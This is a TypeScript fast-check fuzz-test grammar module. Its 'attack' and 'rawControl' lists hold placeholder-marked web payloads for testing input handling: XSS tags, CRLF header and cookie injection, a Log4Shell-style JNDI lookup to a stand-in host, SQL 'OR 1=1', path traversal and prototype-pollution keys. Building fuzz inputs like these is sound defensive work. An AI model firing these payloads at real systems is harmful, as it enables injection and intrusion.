// What the grammar of the fuzz test is made of. In all texts a character is a byte; MARK, ASSET, SRVID and ADDRESS are filled in when
// the case is sent.

import fc, { type Arbitrary } from 'fast-check'

export const oneOf = (...choices: [string, ...string[]]) => fc.constantFrom(...choices)

/** One of the texts that ¦ separates; NONE is the empty text. */
export const choice = (texts: string) =>
  fc.constantFrom(
    ...texts
      .trim()
      .split(/ ¦\s*/)
      .map(text => (text === 'NONE' ? '' : text)),
  )

export const weighted = <T>(...choices: [weight: number, arbitrary: Arbitrary<T>][]) =>
  fc.oneof(...choices.map(([weight, arbitrary]) => ({ weight, arbitrary })))
export const digits = (length: number) =>
  fc
    .array(fc.constantFrom(...'0123456789abcdef'), { minLength: length, maxLength: length })
    .map(each => each.join(''))
export const repeated = (text: string, most: number) =>
  fc.integer({ min: 0, max: most }).map(times => text.repeat(times))
const anyBytes = fc
  .array(fc.integer({ min: 0, max: 255 }), { maxLength: 24 })
  .map(bytes => String.fromCharCode(...bytes))
export const tokens = fc
  .array(fc.constantFrom(..."abcXYZ019-_.!#$%&'*+^`|~"), { maxLength: 16 })
  .map(each => each.join(''))

/** Texts that do harm where they are repeated, or where they are understood. */
export const attack = weighted<string>(
  [
    12,
    oneOf(
      'MARK',
      '"><script>MARK</script>',
      "'-MARK-'",
      '</script><img src=x onerror=MARK>',
      '%0d%0aX-MARK:%20MARK',
      '%0aSet-Cookie:%20MARK=1',
      '%E5%98%8A%E5%98%8DX-MARK:1',
      '%00MARK',
      'MARK%',
      '%u004dMARK',
      '%c0%aeMARK',
      '%2525MARK',
      '\u00ffMARK\u00c0\u00af',
      '\u00ef\u00bb\u00bfMARK',
      '\tMARK',
      '$' + '{jndi:ldap://MARK.example}',
      '{{MARK}}',
      '$host$uri$MARK',
      'javascript:MARK',
      '//MARK.example',
      'https://MARK.example/',
      '/\\MARK.example',
      "MARK' OR 1=1 -- ",
      'MARK\\u0022\\',
      '../../MARK',
      '__proto__',
      'constructor',
      '-1',
      '1e309',
      'NaN',
      '\u0661',
    ),
  ],
  [1, repeated('MARK', 3000)],
  [1, anyBytes],
)

export const rawControl = oneOf(
  '\rMARK',
  '\nX-MARK: 1',
  '\0MARK',
  '\u007fMARK',
  '\u001bMARK',
  '\u000bMARK',
  '\r\n X-MARK: folded',
)

/** The text that MARK becomes in case `n`, up to 99,999. All are equally long, so that lengths can be stated before. */
export const markOf = (n: number) => `zq${String(n).padStart(5, '0')}zq`

/** Bytes of a text once it is filled in. */
export const sizeOf = (text: string) => text.replaceAll('MARK', markOf(0)).length
